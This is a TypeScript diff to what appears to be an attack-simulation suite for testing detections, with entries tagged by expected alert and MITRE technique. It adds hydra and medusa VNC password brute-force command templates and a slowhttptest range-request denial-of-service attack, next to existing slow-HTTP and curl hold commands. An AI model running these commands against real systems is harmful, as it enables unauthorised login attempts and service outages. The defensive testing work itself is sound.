@@ -59,10 +59,10 @@ function hold(tool: string, commandOf: (host: string) => string): Attack {
 }
 
 /** Slow attacks in the way that `options` say, with 150 connections, `rate` new ones a second. */
-function slowHttp(name: string, options: string, path: string): Attack {
+function slowHttp(name: string, options: string, path: string, alerts = ['dos.slow']): Attack {
   return {
     class: name,
-    alerts: ['dos.slow'],
+    alerts,
     technique: 'T1499.002',
     tool: 'slowhttptest',
     needs: ['slowhttptest'],
@@ -101,6 +101,18 @@ export const loginsAndTunnels: readonly Attack[] = [
     (_site, tries, words, target) => `hydra -I -l alice -P ${words} -t ${Math.min(tries, 8)} http-get://${target}/private`,
   ),
   guess(
+    'hydra',
+    'vnc',
+    'files',
+    (site, tries, words, target) => `hydra -I -s ${site.random.pick([5900, 5901])} -P ${words} -t ${Math.min(tries, 4)} vnc://${target}`,
+  ),
+  guess(
+    'medusa',
+    'vnc',
+    'files',
+    (_site, tries, words, target) => `medusa -h ${target} -n 5901 -u root -P ${words} -M vnc -t ${Math.min(tries, 2)}`,
+  ),
+  guess(
     'nmap',
     'ftp',
     'files',
@@ -137,6 +149,8 @@ export const loginsAndTunnels: readonly Attack[] = [
   hold('curl', (host) => `head -c 4000 /dev/zero | curl -s -m 18 --limit-rate 10 -H 'Expect:' -T - http://${host}/form`),
   // The body that never ends.
   slowHttp('slow-http.body', '-B -i 4 -s 8192', '/form'),
+  // Hundreds of parts of a page in each request.
+  slowHttp('slow-http.ranges', '-R -a 10 -b 1500 -t HEAD', '/page.html', ['dos.ranges']),
   // The answer that is never read.
   slowHttp('slow-http.read', '-X -w 512 -y 1024 -n 5 -z 32', '/big.bin'),
   {
